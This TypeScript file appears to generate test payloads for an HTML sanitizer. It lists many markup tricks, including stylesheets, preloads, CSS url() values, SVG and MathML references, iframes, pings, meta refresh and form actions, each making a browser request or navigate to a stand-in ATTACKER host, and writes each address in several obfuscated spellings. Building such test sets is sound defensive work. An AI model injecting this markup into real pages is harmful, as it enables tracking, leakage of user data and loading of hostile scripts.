import { ATTACKER, counter, type Kind } from '../kind.ts'

/** Markup that sends a request to an address by itself, or once it is clicked. */
const SENDERS: readonly ((address: string) => string)[] = [
  a => `<link rel="stylesheet" href="${a}">`,
  ...['preconnect', 'dns-prefetch', 'prefetch', 'prerender', 'modulepreload', 'icon', 'manifest'].map(
    rel => (a: string) => `<link rel="${rel}" href="${a}">`,
  ),
  ...['image', 'style', 'script', 'font', 'fetch', 'video', 'track'].map(
    as => (a: string) => `<link rel="preload" as="${as}" href="${a}" imagesrcset="${a}1 2x">`,
  ),
  a => `<style>@import "${a}";</style>`,
  a => `<style>@font-face{font-family:f;src:url(${a})}p{font-family:f}</style><p>a</p>`,
  a => `<svg><style>*{background:url(${a})}</style></svg><p>a</p>`,
  ...[
    'background',
    'list-style-image',
    'border-image-source',
    'cursor',
    'mask-image',
    'content',
    'filter',
  ].map(property => (a: string) => `<p style="${property}:url(${a})">a</p>`),
  a => `<p style="background:image-set('${a}' 1x)">a</p><p style="background:\\75rl(${a}2)">a</p>`,
  a => `<p style="--a:url(${a});background:var(--a)">a</p>`,
  ...['body', 'table', 'td', 'tr', 'tbody', 'thead'].map(
    tag => (a: string) => `<table><${tag} background="${a}"></table><${tag} background="${a}">`,
  ),
  a => `<video poster="${a}" src="${a}1" autoplay><track default src="${a}2"><source src="${a}3"></video>`,
  a => `<audio src="${a}" autoplay></audio><bgsound src="${a}1">`,
  a =>
    `<picture><source srcset="${a}"><img src="data:,"></picture><img src="data:," srcset="${a}1 9x" sizes="9px">`,
  a => `<img src="${a}" width="1" height="1"><img src="${a}1" width="2"><img src="${a}2" height="0">`,
  a => `<img lowsrc="${a}" dynsrc="${a}1" longdesc="${a}2" usemap="${a}3" crossorigin src="data:,">`,
  a => `<input type="image" src="${a}"><isindex type="image" src="${a}1">`,
  a =>
    `<svg><image href="${a}"/><image xlink:href="${a}1"/><use href="${a}2#x"/><feImage href="${a}3"/></svg>`,
  a =>
    `<svg><filter id="f"><feImage xlink:href="${a}"/></filter><rect filter="url(#f)" fill="url(${a}1)" width="9" height="9"/></svg>`,
  a =>
    `<svg><script href="${a}"></script><script xlink:href="${a}1"></script></svg><script src="${a}2"></script>`,
  a => `<svg><image><set attributeName="href" to="${a}"/></image></svg>`,
  a =>
    `<math><mglyph src="${a}"/><mi href="${a}1" xlink:href="${a}2">x</mi><mtext><img src="data:," srcset="${a}3 9x"></mtext></math>`,
  a =>
    `<iframe src="${a}"></iframe><iframe srcdoc="<img src='${a}1'>"></iframe><frameset><frame src="${a}2"></frameset>`,
  a =>
    `<embed src="${a}"><object data="${a}1"></object><object><param name="src" value="${a}2"></object><applet code="${a}3">`,
  a => `<portal src="${a}"></portal><fencedframe src="${a}1"></fencedframe><webview src="${a}2"></webview>`,
  a => `<a href="#" ping="${a}" attributionsrc="${a}1">a</a><img attributionsrc="${a}2" src="data:,">`,
  a => `<html manifest="${a}"><head profile="${a}1"><body>`,
  a =>
    `<?xml-stylesheet href="${a}"?><!DOCTYPE html SYSTEM "${a}1"><!--[if IE]><img src="${a}2"><![endif]-->`,
  a => `<template shadowrootmode="open"><img src="${a}"><link rel="stylesheet" href="${a}1"></template>`,
  a => `<div><template shadowrootmode="open"><style>@import "${a}";</style></template></div>`,
  a => `<base href="${a}/"><img src="relative.png" alt="a"><a href="relative">a</a>`,
  a => `<noscript><img src="${a}"></noscript><noembed><img src="${a}1"></noembed>`,
  a => `<script type="speculationrules">{"prefetch":[{"urls":["${a}"]}]}</script>`,
  a =>
    `<script type="importmap">{"imports":{"a":"${a}"}}</script><script type="module">import "${a}1"</script>`,
]

/** Markup that leaves the page for an address. */
const LEAVERS: readonly ((address: string) => string)[] = [
  a => `<meta http-equiv="refresh" content="0;url=${a}">`,
  a => `<META HTTP-EQUIV=Refresh CONTENT="0 ${a}">`,
  a => `<form action="${a}"><input autofocus name="b"><input type="submit"></form>`,
  a => `<form id="f"></form><button form="f" formaction="${a}" formmethod="post">a</button>`,
  a => `<form method="dialog" action="${a}"><button>a</button></form>`,
  a => `<svg><a href="${a}" target="_self"><animate attributeName="x"/><text>x</text></a></svg>`,
]

/** Ways to write an address. */
const SPELLINGS = [
  (path: string) => `${ATTACKER}/${path}`,
  (path: string) => `//${ATTACKER.slice(8)}/${path}`,
  (path: string) => `\t${ATTACKER.toUpperCase()}\\${path}`,
]

/** Each element and attribute that loads, and each that navigates, with each spelling of an address. */
export const requests: Kind = {
  name: 'requests',
  payloads() {
    const number = counter()
    return [...SENDERS, ...LEAVERS].flatMap(sender =>
      SPELLINGS.map(spelling => sender(spelling(`unasked/${number()}-`))),
    )
  },
}
